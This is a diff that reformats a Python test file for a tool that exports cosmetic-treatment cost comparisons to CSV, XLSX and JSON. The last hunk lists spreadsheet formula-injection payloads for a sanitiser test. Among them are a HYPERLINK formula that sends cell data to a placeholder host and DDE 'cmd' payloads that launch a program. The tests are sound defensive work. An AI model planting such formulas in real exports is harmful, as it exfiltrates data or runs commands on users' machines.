@@ -46,14 +46,18 @@ def test_csv_has_settings_table_and_sources(small_dataset):
     assert (filler["Total cost low"], filler["Total cost typical"], filler["Total cost high"]) == ("2000", "", "18000")
     assert filler["Total cost reads"] == "$2,000–$18,000"
     needling = by_name["Microneedling"]
-    assert (needling["Total cost low"], needling["Total cost high"], needling["Total cost reads"]) == ("600", "", "at least $600")
+    assert (needling["Total cost low"], needling["Total cost high"], needling["Total cost reads"]) == (
+        "600",
+        "",
+        "at least $600",
+    )
     assert "how often it must be repeated is not published" in needling["Budget fit reason"]
     assert "Whether and how often it must be repeated is not published" in needling["Missing inputs"]
     assert filler["Budget fit"] == "may fit" and filler["Price sources"] == "clinic-x"
     assert by_name["Botulinum toxin"]["Total cost low"] == ""  # unknown is empty, never 0
     sources_at = rows.index(["Sources"])
     assert rows[sources_at + 1] == ["id", "publisher", "title", "url", "year", "status"]
-    assert {r[0] for r in rows[sources_at + 2:]} == {"clinic-x", "nhs-botox", "nhs-fillers"}
+    assert {r[0] for r in rows[sources_at + 2 :]} == {"clinic-x", "nhs-botox", "nhs-fillers"}
 
 
 def test_xlsx_reads_well_header_in_row_one_formats_frozen_filter_and_sheets(small_dataset):
@@ -69,7 +73,9 @@ def test_xlsx_reads_well_header_in_row_one_formats_frozen_filter_and_sheets(smal
     filler = records["Hyaluronic-acid filler"]
     assert filler["Total cost high"].value == 18000 and filler["Total cost high"].number_format == '"$"#,##0'
     assert filler["Sessions low"].number_format == "#,##0.##"
-    rate = next(r["Major complication rate"] for r in records.values() if r["Major complication rate"].value is not None)
+    rate = next(
+        r["Major complication rate"] for r in records.values() if r["Major complication rate"].value is not None
+    )
     assert rate.number_format == "0.0%"
     assert sheet.column_dimensions["A"].width >= len("Hyaluronic-acid filler")
     settings = {r[0].value: r[1].value for r in book["Settings"].iter_rows()}
@@ -80,10 +86,26 @@ def test_xlsx_reads_well_header_in_row_one_formats_frozen_filter_and_sheets(smal
 
 def test_xlsx_in_pounds_lists_quotes_and_notes_those_left_out(small_dataset):
     quotes = [
-        {"id": "q1", "treatment_id": "ha-filler", "clinic": "Clinic A", "price": 900.0, "currency": "USD",
-         "covers": "session", "quantity": 1, "date": "2026-01-02"},
-        {"id": "q2", "treatment_id": "ha-filler", "clinic": "Clinic B", "price": 700.0, "currency": "GBP",
-         "covers": "session", "quantity": 1, "date": ""},
+        {
+            "id": "q1",
+            "treatment_id": "ha-filler",
+            "clinic": "Clinic A",
+            "price": 900.0,
+            "currency": "USD",
+            "covers": "session",
+            "quantity": 1,
+            "date": "2026-01-02",
+        },
+        {
+            "id": "q2",
+            "treatment_id": "ha-filler",
+            "clinic": "Clinic B",
+            "price": 700.0,
+            "currency": "GBP",
+            "covers": "session",
+            "quantity": 1,
+            "date": "",
+        },
     ]
     catalog = build_catalog(small_dataset)
     comparison = compare(catalog, Filters(market="US", horizon=5), quotes)
@@ -94,7 +116,10 @@ def test_xlsx_in_pounds_lists_quotes_and_notes_those_left_out(small_dataset):
     assert rows[1][0] == "Clinic A" and rows[1][2] == 900 and rows[1][-1] == "included"
     assert rows[2][0] == "Clinic B" and rows[2][-1] == "left out: currency is not the market's"
     settings = {r[0].value: r[1].value for r in book["Settings"].iter_rows()}
-    assert settings["Your quotes left out"] == "1 not in USD, the currency of this market: Clinic B (Hyaluronic-acid filler, 700.00 GBP)"
+    assert (
+        settings["Your quotes left out"]
+        == "1 not in USD, the currency of this market: Clinic B (Hyaluronic-acid filler, 700.00 GBP)"
+    )
     assert book["Comparison"]["A1"].value == "Option"  # the note is on Settings, the table still starts in row 1
     uk = compare(catalog, Filters(market="UK", horizon=5), quotes)
     uk_book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(uk, small_dataset, TODAY)))
@@ -115,11 +140,36 @@ def test_json_rows_match_the_csv_rows(small_dataset):
     assert [c["key"] for c in body["columns"]] == [k for k, _ in EXPORT_COLUMNS]
 
 
-PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
-            " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "{=1+1}", "==== Sale ====",
-            # issue 14, kind 7: invisible format characters (category Cf) before the formula
-            "\u2060=1+1", "\u200d=1+1", "\u00ad=1+1", "\u2060\u200d \u00ad@SUM(1,1)", "\U000e0001+1+1", "\u3000=1+1",
-            '=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+PAYLOADS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1,1)",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u202e=1+1",
+    "{=1+1}",
+    "==== Sale ====",
+    # issue 14, kind 7: invisible format characters (category Cf) before the formula
+    "\u2060=1+1",
+    "\u200d=1+1",
+    "\u00ad=1+1",
+    "\u2060\u200d \u00ad@SUM(1,1)",
+    "\U000e0001+1+1",
+    "\u3000=1+1",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
